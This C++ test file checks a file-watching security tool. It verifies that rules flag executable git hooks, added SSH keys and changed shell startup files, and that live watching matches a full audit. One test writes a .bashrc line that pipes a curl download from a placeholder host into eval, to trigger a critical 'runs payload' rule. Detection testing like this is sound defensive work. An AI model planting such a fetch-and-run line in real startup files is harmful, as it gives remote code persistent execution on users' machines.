// The rule pack through the live watcher: change words reach the rules, and the watcher finds on the
// pack's samples exactly what an audit finds.

#include "RuleCases.h"
#include "ScanRunner.h"
#include "WatcherHarness.h"

#include <algorithm>
#include <gtest/gtest.h>
#include <set>

namespace fs = std::filesystem;
using namespace tw::test;

namespace {

// A hook that gains the executable bit is reported; chmod 600 and touch are routine for keys and
// startup files, a change of their content is not.
TEST(RulesLive, ChangeWordsReachThePack)
{
    TempDir tree;
    Watcher watcher;
    watcher.send({tree.path()});
    ASSERT_TRUE(watcher.sync(tree.path())) << watcher.log();
    const auto found = [&](const fs::path& path, const char* rule) {
        return watcher.linesFor(path.string(), rule);
    };
    const auto waitFor = [&](const fs::path& path, const char* rule) {
        return watcher.waitForPaths({path.string()}, std::chrono::seconds(20), rule);
    };
    const fs::path hook = tree / ".git/hooks/pre-commit";
    const fs::path keys = tree / ".ssh/authorized_keys";
    const fs::path bashrc = tree / ".bashrc";
    fs::create_directories(hook.parent_path());
    fs::create_directories(keys.parent_path());
    writeFile(hook, "#!/bin/sh\nnpx lint-staged\n");
    writeFile(
        keys,
        "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIK0wmN/Cr3JXqmLW7u+g9pTh+wh/j3nVhPYQmmZ9ZqRv dev@laptop\n");
    writeFile(bashrc, "alias ll='ls -la'\n");
    ASSERT_TRUE(waitFor(keys, "ssh_authorized_key_added")) << watcher.log();
    ASSERT_TRUE(waitFor(bashrc, "shell_startup_file_changed")) << watcher.log();
    ASSERT_TRUE(watcher.sync(tree.path())) << watcher.log();
    EXPECT_TRUE(found(hook, "git_hook_added").empty()) << "git ignores a hook it cannot run";
    const auto keysBefore = found(keys, "ssh_authorized_key_added").size();
    const auto bashrcBefore = found(bashrc, "shell_startup_file_changed").size();

    fs::permissions(hook, fs::perms::owner_exec, fs::perm_options::add);
    fs::permissions(keys, fs::perms::owner_read | fs::perms::owner_write);
    fs::permissions(bashrc, fs::perms::owner_read | fs::perms::owner_write | fs::perms::group_read);
    ASSERT_TRUE(waitFor(hook, "git_hook_added")) << watcher.log();
    EXPECT_EQ(found(hook, "git_hook_added")[0].severity, "high");
    EXPECT_TRUE(found(hook, "git_hook_added")[0].hasType("attributes"));
    ASSERT_TRUE(watcher.sync(tree.path())) << watcher.log();
    EXPECT_EQ(found(keys, "ssh_authorized_key_added").size(), keysBefore);
    EXPECT_EQ(found(bashrc, "shell_startup_file_changed").size(), bashrcBefore);

    writeFile(bashrc, "alias ll='ls -la'\neval \"$(curl -fsSL https://dots.example.sh/init)\"\n");
    ASSERT_TRUE(waitFor(bashrc, "shell_startup_runs_payload")) << watcher.log();
    EXPECT_EQ(found(bashrc, "shell_startup_runs_payload")[0].severity, "critical");
    EXPECT_TRUE(found(bashrc, "shell_startup_runs_payload")[0].hasType("modified"));
}

// "path rule (severity)" for each finding, the harness's match-everything lines left out.
std::set<std::string> findings(const std::vector<WatchLine>& events)
{
    std::set<std::string> out;
    for (const auto& e : events)
        if (e.rule != matchEverything)
            out.insert(e.path + " " + e.rule + " (" + e.severity + ")");
    return out;
}

// The entries of `from` that `without` lacks, one per line.
std::string lines(const std::set<std::string>& from, const std::set<std::string>& without)
{
    std::string s;
    for (const auto& f : from)
        if (!without.count(f))
            s += "  " + f + "\n";
    return s;
}

// The watcher compiles the whole pack into one set and keeps a match only inside its own file's scope;
// an audit compiles a set per scope. Both must find the same on every sample of the pack.
TEST(RulesModes, WatcherFindsWhatAnAuditFinds)
{
    TempDir tree;
    TempDir staging;
    // The pack's conditions check paths themselves; this file's rules rely on its scope alone.
    WatcherSetup setup;
    setup.rules.emplace_back("scoped.yar", "// twwatch-scope: package.json */.git/hooks/*\n"
                                           "rule user_scoped { meta: severity = \"high\" condition: true }\n"
                                           "rule user_scoped_refused { condition: true }\n");
    // The folders are there before the watcher starts, and each sample arrives whole by a rename, so
    // the watcher never evaluates a half-copied file.
    for (const auto& c : ruleCases())
        fs::create_directories((tree / c.name / c.destination).parent_path());
    Watcher watcher(setup);
    useConfigHome(watcher.configHome()); // the audit below reads the same rules
    watcher.send({tree.path()});
    ASSERT_TRUE(watcher.sync(tree.path())) << watcher.log();
    for (const auto& c : ruleCases()) {
        plantSample(c, staging / c.name);
        fs::rename(staging / c.name, tree / c.name / c.destination);
    }

    const ScanResult audit = runTwwatch({"--scan", tree.path().string()});
    ASSERT_EQ(audit.process.exitCode, 0) << audit.process.err;
    const std::set<std::string> expected = findings(audit.events);
    const auto attacks =
        std::count_if(ruleCases().begin(), ruleCases().end(), [](auto& c) { return c.fires; });
    ASSERT_GE(expected.size(), static_cast<std::size_t>(attacks)) << lines(expected, {});
    ASSERT_TRUE(std::any_of(expected.begin(), expected.end(),
                            [](auto& f) { return f.ends_with("package.json user_scoped (high)"); }));

    waitUntil([&] { return lines(expected, findings(watcher.lines())).empty(); }, std::chrono::seconds(40));
    ASSERT_TRUE(watcher.sync(tree.path())) << watcher.log(); // a late extra finding would be in by now
    const std::set<std::string> live = findings(watcher.lines());
    EXPECT_EQ(lines(expected, live), "") << "found by the audit only";
    EXPECT_EQ(lines(live, expected), "") << "found by the watcher only";
}

} // namespace
